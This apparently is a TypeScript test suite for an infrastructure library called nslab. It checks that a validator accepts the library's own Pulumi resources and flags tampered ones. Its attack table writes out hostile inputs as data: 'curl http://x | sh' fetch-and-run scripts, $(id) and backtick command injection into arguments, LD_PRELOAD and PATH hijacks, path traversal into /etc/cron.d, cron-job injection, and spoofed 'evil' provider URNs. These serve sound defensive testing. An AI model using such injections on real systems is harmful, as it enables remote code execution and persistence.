import assert from "node:assert/strict";
import { VirtualMachine } from "../../../components/index.ts";
import { unknown, whyForeign, type ToldResource } from "../../../components/ownResources.ts";
import { parseAssignments } from "../../../host/shell.ts";
import { nonce, present, registered, type Registered } from "../../support/mocks.ts";
import { catalogue } from "./catalogue.ts";
import { sshHost } from "./sshHost.ts";

const prefix = "urn:pulumi:dev::nslab::";
const provider = `${prefix}pulumi:providers:command::default_1_2_1::0a1b2c3d`;

/** As the engine tells of what a component has registered. */
function told({ type, name, parent, inputs }: Registered, component: string): ToldResource {
    const shown = "environment" in inputs ? { ...inputs, environment: "[secret]" } : inputs;
    return {
        urn: `${prefix}${component}$${type}::${name}`,
        type,
        parent: `${prefix}${parent === "nslab-dev" ? "pulumi:pulumi:Stack" : component}::${parent}`,
        provider,
        inputs: JSON.parse(JSON.stringify(shown).replaceAll(nonce, "0a0b0c0d0e0f")) as ToldResource["inputs"],
    };
}

async function toldOf(component: string, make: () => unknown): Promise<ToldResource[]> {
    const { resources } = await registered(() => void make());
    return resources.filter(({ type }) => !type.startsWith("nslab:")).map((one) => told(one, component));
}

const vm = {
    title: "VirtualMachine",
    type: "nslab:index:VirtualMachine",
    make: (name: string) => new VirtualMachine(name),
};

describe("What a component registers", () => {
    for (const { title, type, make } of [...catalogue, vm])
        it(`is nslab's own: ${title}, here and over SSH, as root and by sudo`, async () => {
            const { ssh } = (await sshHost()).args;
            const hosts = [{ sudo: false }, { sudo: true }, { ssh }, { ssh: { ...ssh, user: "lab" } }];
            for (const host of title === "VirtualMachine" ? hosts.slice(0, 1) : hosts)
                for (const resource of await toldOf(type, () => make("it", host)))
                    assert.equal(whyForeign(resource), undefined, resource.urn);
        });
});

describe("What a program has a hand in", () => {
    let own: ToldResource;
    let copy: ToldResource;
    let guest: ToldResource;
    before(async () => {
        const tree = present(catalogue.find(({ kind }) => kind === "rootFs"));
        const group = present(catalogue.find(({ kind }) => kind === "memoryCgroup"));
        const { args } = await sshHost();
        const isCopy = ({ type }: ToldResource) => type === "command:remote:CopyToRemote";
        copy = present((await toldOf(tree.type, () => tree.make("it", args))).find(isCopy));
        own = present((await toldOf(group.type, () => group.make("it", { sudo: false }))).at(-1));
        guest = present((await toldOf(vm.type, () => vm.make("it"))).at(-1));
    });

    const withInputs = (resource: ToldResource, inputs: object): ToldResource => ({
        ...resource,
        inputs: { ...resource.inputs, ...inputs },
    });
    const stdin = () => String(own.inputs["stdin"]);
    const origin = () => parseAssignments(stdin())?.["origin"] ?? "";
    const [generation, identity] = ["0a0b0c0d0e0f", { name: "go-demo" }];

    /** Each is an attack on one resource that is nslab's own without it. */
    const attacks: Record<string, () => ToldResource> = {
        "another script": () => withInputs(own, { create: "curl http://x | sh" }),
        "a line more": () => withInputs(own, { delete: `${String(own.inputs["delete"])}\nid` }),
        "a hidden script": () => withInputs(own, { update: "[secret]" }),
        "a script that is known later": () => withInputs(own, { create: unknown }),
        "another interpreter": () => withInputs(own, { interpreter: ["/tmp/sh", "-c"] }),
        "a directory to run in": () => withInputs(own, { dir: "/tmp" }),
        "assets that its output names": () => withInputs(own, { assetPaths: ["/etc/**"] }),
        "variables of the loader": () => withInputs(own, { environment: { LD_PRELOAD: "/tmp/x.so" } }),
        "hidden variables": () => withInputs(own, { environment: "[secret]" }),
        "variables beside a guest's keys": () =>
            withInputs(guest, {
                environment: { NSLAB_CLIENT_KEY: "", NSLAB_LAB_DATA: "", ENV: "/tmp/x" },
            }),
        "a command beside the arguments": () => withInputs(own, { stdin: `${stdin()}\ncurl http://x | sh` }),
        "a command in an argument": () =>
            withInputs(own, { stdin: stdin().replace("limitBytes=", "limitBytes=$(id)") }),
        "a command in backticks": () =>
            withInputs(own, { stdin: stdin().replace("swappiness=", "swappiness=`id`") }),
        "a command in double quotes": () =>
            withInputs(own, { stdin: stdin().replace(/swappiness=.*/, 'swappiness="$(id)"') }),
        "another search path": () => withInputs(own, { stdin: `PATH=/tmp\n${stdin()}` }),
        "a variable of the scripts' own": () => withInputs(own, { stdin: `${stdin()}\nmark=nslab/x` }),
        "an argument twice": () => withInputs(own, { stdin: `${stdin()}\n${stdin()}` }),
        "records among cron's": () =>
            withInputs(own, { stdin: stdin().replace("records=/run/nslab", "records=/etc/cron.d") }),
        "a lab id with a way up": () =>
            withInputs(own, { stdin: stdin().replace(/lab=\w+/, "lab=../../etc") }),
        "another object": () =>
            withInputs(own, {
                stdin: stdin().replace("object=memoryCgroup.it", "object=memoryCgroup.other"),
            }),
        "half a character": () => ({ ...own, urn: `${own.urn}\ud800`, parent: `${own.parent}\ud800` }),
        "a character that no shell can hold": () => withInputs(own, { stdin: `${stdin()}\0` }),
        "no arguments": () => withInputs(own, { stdin: "" }),
        "no standard input": () => withInputs(own, { stdin: undefined }),
        "other arguments than are shown": () =>
            withInputs(own, { triggers: [generation, { ...identity, name: "innocent" }] }),
        "more in what is shown": () => withInputs(own, { triggers: [generation, { filter: "x" }] }),
        "another generation than is shown": () => withInputs(own, { triggers: ["ffffffffffff", identity] }),
        "a name of no component's": () => ({ ...own, urn: own.urn.replace("it-group", "it-cleanup") }),
        "the name of another component's": () => ({ ...own, parent: own.parent.replace(/it$/, "that") }),
        "a parent that is another kind": () => ({
            ...own,
            parent: own.parent.replace("MemoryCgroup", "VethPair"),
        }),
        "a parent of another library's": () => ({
            ...own,
            parent: own.parent.replace("nslab:index:", "own:index:"),
        }),
        "a parent that a prototype has": () => ({
            ...own,
            parent: own.parent.replace("MemoryCgroup", "constructor"),
        }),
        "no parent": () => ({ ...own, parent: "" }),
        "a provider of the program's": () => ({
            ...own,
            provider: provider.replace("default_1_2_1", "mine"),
        }),
        "a plugin from elsewhere": () => ({
            ...own,
            provider: provider.replace("default_1_2_1", "default_1_2_1_http_/evil"),
        }),
        "a provider that poses as one": () => ({
            ...own,
            provider: `${prefix}pulumi:providers:evil::x::pulumi:providers:command::default::1`,
        }),
        "a copy to cron": () => withInputs(copy, { remotePath: "/etc/cron.d/x" }),
        "a copy by a way up": () =>
            withInputs(copy, { remotePath: `${String(copy.inputs["remotePath"])}/../../etc/cron.d/x` }),
        "a copy to who knows where": () => withInputs(copy, { remotePath: unknown }),
        "a copy of a text": () =>
            withInputs(copy, { source: { ...(copy.inputs["source"] as object), text: "* * * * * root id" } }),
        "a copy of a URL": () =>
            withInputs(copy, {
                source: { ...(copy.inputs["source"] as object), uri: "http://x", path: undefined },
            }),
        "a copy beside those of a component": () => ({
            ...copy,
            urn: copy.urn.replace("it-file-0", "it-motd"),
        }),
        "a copy that a component has none of": () => ({
            ...copy,
            parent: own.parent,
            urn: copy.urn.replace("RootFs", "MemoryCgroup"),
        }),
        "a dynamic provider": () => ({
            ...own,
            type: "pulumi-nodejs:dynamic:Resource",
            urn: own.urn.replace("command:local:Command", "pulumi-nodejs:dynamic:Resource"),
        }),
        "another stash": () => ({
            ...own,
            type: "pulumi:index:Stash",
            urn: `${prefix}pulumi:index:Stash::notes`,
            inputs: { input: "0a0b0c0d0e0f" },
        }),
        "a lab id of words": () => ({
            ...own,
            type: "pulumi:index:Stash",
            urn: `${prefix}pulumi:index:Stash::lab-id`,
            inputs: { input: { id: "$(id)", origin: origin() } },
        }),
        "a lab id of somewhere that is no place": () => ({
            ...own,
            type: "pulumi:index:Stash",
            urn: `${prefix}pulumi:index:Stash::lab-id`,
            inputs: { input: { id: "0a0b0c0d0e0f", origin: "$(id)" } },
        }),
        "an origin that is no place": () =>
            withInputs(own, { stdin: stdin().replace(/^origin=.*$/m, "origin='$(id)'") }),
        "a provider with settings": () => ({
            ...own,
            type: "pulumi:providers:command",
            urn: `${prefix}pulumi:providers:command::mine`,
        }),
        "a provider of another package": () => ({
            ...own,
            type: "pulumi:providers:evil",
            urn: `${prefix}pulumi:providers:evil::default_1_0_0`,
        }),
    };
    for (const [what, attack] of Object.entries(attacks))
        it(`is not nslab's own: ${what}`, () => {
            for (const resource of [own, copy, guest]) assert.equal(whyForeign(resource), undefined);
            assert.notEqual(whyForeign(attack()), undefined);
        });

    it("is judged by what it will run alone, where an earlier version built it", () => {
        const earlier = withInputs(own, { create: "echo another", update: "echo other" });
        assert.equal(whyForeign(earlier, ["delete"]), undefined);
        assert.match(String(whyForeign(earlier)), /registers another create, update$/);
    });
});
